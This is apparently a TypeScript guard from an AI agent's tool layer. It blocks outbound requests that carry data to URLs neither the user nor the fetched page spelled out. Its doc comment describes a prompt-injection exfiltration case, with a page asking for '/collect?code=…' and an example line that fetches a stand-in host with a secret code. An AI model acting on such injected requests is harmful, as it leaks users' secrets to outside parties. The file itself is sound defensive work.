import type { TurnProvenance } from "../../turn/provenance.js";
import type { Send } from "../effects.js";

/**
 * The side-door rule: once outside text entered a turn, a request goes out only
 * - to a URL the person's own words spell out whole in this turn (then it may carry what they asked), or
 * - to a URL exactly as the outside text spelled it (a link on the page, a search result), with nothing
 *   of the call's own added: no path or query the text did not hold, and no body or header value that
 *   neither the outside text nor the person's words hold.
 * Naming a site is not enough: the page the person gave may itself ask for its own site's
 * "/collect?code=…".
 * So a page can be followed link by link, but "fetch https://x.example/?code=<the door code>" sends nothing:
 * that URL is written by the model, not by the page. Answers what would leave and why, or undefined.
 */
export function sideDoor(send: Send, provenance: TurnProvenance): string | undefined {
  let url: URL;
  try {
    url = new URL(send.url.trim());
  } catch {
    return undefined; // the tool refuses a URL it cannot read
  }
  const words = readable(provenance.ownWords);
  const outside = readable(provenance.outsideText());
  const carried = (send.carries ?? []).filter((value) => value.trim() !== "");
  const unexplained = carried.filter(
    (value) => !outside.includes(readable(value)) && !words.includes(value.toLowerCase()),
  );
  if (spelledOut(send.url, url, words)) return undefined;
  if (!spelledOut(send.url, url, outside)) {
    return (
      `the person did not give this URL (${clipUrl(url)}), and it is not a link that the text read in this ` +
      "turn gives as it stands: the call would put data of its own into it"
    );
  }
  if (unexplained.length) {
    return "the person did not give this URL, and the request would carry data that the text read in this turn does not hold";
  }
  return undefined;
}

/** The URL appears as written in the outside text (its fragment aside), decoded or not. */
function spelledOut(raw: string, url: URL, outside: string): boolean {
  const withoutFragment = (text: string) => text.replace(/#.*$/, "").replace(/\/$/, "");
  const forms = [raw.trim(), url.href].map(withoutFragment).flatMap((form) => [form, safeDecode(form)]);
  return forms.some((form) => form.length > 0 && outside.includes(readable(form)));
}

/** Text compared as a reader sees it: entities and JSON escapes undone, case folded. */
function readable(text: string): string {
  return text
    .replace(/&amp;/g, "&")
    .replace(/\\u0026/g, "&")
    .replace(/\\\//g, "/")
    .toLowerCase();
}

function safeDecode(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

function clipUrl(url: URL): string {
  const text = url.href;
  return text.length > 200 ? `${text.slice(0, 200)}…` : text;
}
